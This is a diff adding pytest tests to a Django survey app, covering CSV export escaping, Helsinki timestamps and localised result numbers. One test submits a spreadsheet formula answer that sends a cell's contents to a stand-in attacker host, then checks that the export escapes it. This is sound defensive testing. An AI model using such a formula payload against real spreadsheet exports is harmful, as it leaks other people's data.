@@ -10,6 +10,7 @@ from notifications.models import Notification
 from partners.models import AuditEntry, Membership, Question, Recipient, Response, Survey
 from partners.services import surveys as services
 from tests.factories import OrganisationFactory, member, staff
+from tests.network_portal.machine_numbers import localised_machine_numbers, machine_numbers
 
 pytestmark = pytest.mark.django_db
 R = Membership.Role
@@ -321,6 +322,45 @@ def test_results_sum_up_the_answers(client, world):
         "4",
         "Text 0",
     ]
+
+
+def test_an_answer_that_would_run_as_a_formula_reaches_the_csv_as_text(client, world):
+    survey = build(world, status="open")
+    _recipient, token = send_to(survey, company=world["company"])
+    formula = '=HYPERLINK("https://attacker.example/?leak="&C2,"Open")'
+    # Sent without an account, through the e-mailed link.
+    client.post(f"/en/partners/surveys/answer/{token}/", answer_data(survey, text=formula))
+    client.force_login(world["coordinator"])
+    export = client.get(f"/en/partners/surveys/{survey.pk}/results/", {"format": "csv"})
+    table = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
+    assert table[1][-1] == "'" + formula
+    # The scale answer is still a plain number.
+    assert table[1][-2] == "4"
+
+
+def test_the_csv_gives_the_answering_time_in_finnish_time(client, world):
+    survey = build(world, status="open")
+    _recipient, token = send_to(survey)
+    client.post(f"/en/partners/surveys/answer/{token}/", answer_data(survey))
+    late = datetime.datetime(2026, 1, 31, 22, 30, tzinfo=datetime.UTC)  # 00:30 in Helsinki
+    Response.objects.update(submitted_at=late)
+    client.force_login(world["coordinator"])
+    export = client.get(f"/en/partners/surveys/{survey.pk}/results/", {"format": "csv"})
+    table = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
+    assert table[1][0] == "2026-02-01 00:30"
+
+
+@pytest.mark.parametrize("language", ["fi", "sv", "ru"])
+def test_result_bars_are_plain_numbers_and_the_mean_is_localised(client, world, language):
+    survey = build(world, status="open")
+    for n, scale in enumerate([4, 1]):
+        _recipient, token = send_to(survey, email=f"c{n}@example.org")
+        client.post(f"/en/partners/surveys/answer/{token}/", answer_data(survey, scale=scale))
+    client.force_login(world["coordinator"])
+    page = client.get(f"/{language}/partners/surveys/{survey.pk}/results/").content.decode()
+    assert ("rect", "width", "100%") in machine_numbers(page)
+    assert localised_machine_numbers(page) == []
+    assert "2,5" in page  # the mean of 4 and 1, as people read it
 
 
 @pytest.mark.parametrize(
